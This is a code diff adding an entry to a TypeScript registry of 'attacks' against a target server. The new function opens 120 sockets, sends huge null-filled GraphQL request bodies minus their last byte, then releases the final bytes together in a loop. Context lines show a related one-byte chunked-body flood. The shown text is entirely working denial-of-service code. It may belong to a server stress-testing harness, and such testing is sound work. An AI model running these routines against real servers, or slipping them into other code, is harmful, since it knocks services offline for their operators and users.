@@ -263,6 +263,17 @@ export const attacks: Readonly<Record<string, Attack>> = {
     }
     await over(stop);
   },
+  'long bodies that end together': async (target, stop) => {
+    const whole = post(`{"query":"{ __typename }","x":"${'\\u0000'.repeat(170_000)}"}`);
+    while (!stop.aborted) {
+      const sockets = numbers(120).map(() => dial(target, stop));
+      for (const socket of sockets) socket.write(whole.slice(0, -1));
+      await new Promise((resolve) => setTimeout(resolve, 2_000));
+      for (const socket of sockets) socket.write(whole.slice(-1));
+      await new Promise((resolve) => setTimeout(resolve, 2_000));
+      for (const socket of sockets) socket.destroy();
+    }
+  },
   'bodies in chunks of one byte': async (target, stop) => {
     const chunks = '1\r\nx\r\n'.repeat(10_000);
     for (const at of numbers(200)) {
